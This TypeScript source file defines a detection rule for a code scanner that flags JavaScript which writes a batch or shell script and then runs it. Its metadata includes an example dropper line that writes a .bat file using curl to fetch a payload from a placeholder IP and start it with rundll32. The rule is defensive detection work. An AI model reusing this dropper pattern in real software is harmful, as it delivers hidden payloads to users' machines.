import { analyzeCommand } from '../../shell/command.js';
import type { JsRule } from '../engine.js';
import type { Node } from '../parse.js';
import { calleeName, FILE_WRITES, js, PROCESS_EXEC, preview } from './helpers.js';

const SCRIPT_NAME = /\.(bat|cmd|ps1|sh|bash|vbs|js|py|command)$/i;
const SEVERITY_RANK = ['info', 'low', 'medium', 'high', 'critical'];

/**
 * Flags code that writes a script (batch, PowerShell, shell...) from a string in the code and
 * runs it; the script body is analysed like any shell script.
 */
export const scriptDropper: JsRule = {
  meta: {
    ...js,
    id: 'JS-014',
    name: 'write-and-run-script',
    category: 'dropper',
    severity: 'high',
    confidence: 'high',
    description:
      'Code writes a script (batch, PowerShell, shell) whose body is embedded in the code and then runs it, or the embedded script itself downloads, decodes or launches payloads.',
    rationale:
      'Windows droppers write a .bat that fetches a DLL with curl and starts it with rundll32, then delete the evidence; writing the script at run time keeps those commands out of package.json where reviewers look.',
    falsePositives: 'Installers that generate wrapper scripts (shims) for their own binaries.',
    example:
      "fs.writeFileSync('x.bat', 'curl -o a.db http://192.0.2.1/p\\nrundll32 a.db,Start'); exec('x.bat')",
    references: [
      'https://attack.mitre.org/techniques/T1059/003/',
      'https://attack.mitre.org/techniques/T1218/011/',
    ],
  },
  create(ctx) {
    const written: Array<{ node: Node; name: string; body: string }> = [];
    const runs: Array<{ node: Node; command: string }> = [];
    const check = (node: Node) => {
      const name = calleeName(ctx, node);
      if (!name) return;
      if (FILE_WRITES.has(name) && !name.endsWith('createWriteStream')) {
        const target = ctx.evaluateString(node.arguments?.[0]);
        const body = ctx.evaluateString(node.arguments?.[1]);
        if (target && body && body.length > 8) written.push({ node, name: target, body });
      } else if (PROCESS_EXEC.has(name)) {
        const cmd = ctx.evaluateString(node.arguments?.[0]);
        if (cmd) runs.push({ node, command: cmd });
      }
    };
    return {
      CallExpression: check,
      NewExpression: check,
      'Program:done'() {
        for (const w of written) {
          const base = w.name.replace(/^.*[\\/]/, '');
          const ran = runs.find((r) => base.length > 0 && r.command.includes(base));
          const techniques = w.body
            .split(/\r?\n/)
            .filter((l) => l.trim() && !/^\s*(#|rem\b|::|@echo)/i.test(l))
            .flatMap((l) => analyzeCommand(l));
          const bad = techniques.filter((t) => SEVERITY_RANK.indexOf(t.severity) >= 3);
          if (bad.length === 0 && !(ran && SCRIPT_NAME.test(base))) continue;
          ctx.facts.capabilities.add('script-dropper');
          const what = [...new Set(bad.map((t) => t.description))].slice(0, 3).join('; ');
          ctx.report({
            node: ran?.node ?? w.node,
            message: `${ran ? 'Writes and runs' : 'Writes'} the script ${base}${what ? `, which ${what}` : ''}: ${preview(w.body, 100)}`,
            severity: ran && bad.length > 0 ? 'critical' : 'high',
            confidence: bad.length > 0 ? 'high' : 'medium',
            evidence: {
              script: base,
              runs: ran?.command,
              techniques: [...new Set(techniques.map((t) => t.id))],
              body: preview(w.body, 400),
            },
          });
        }
      },
    };
  },
};
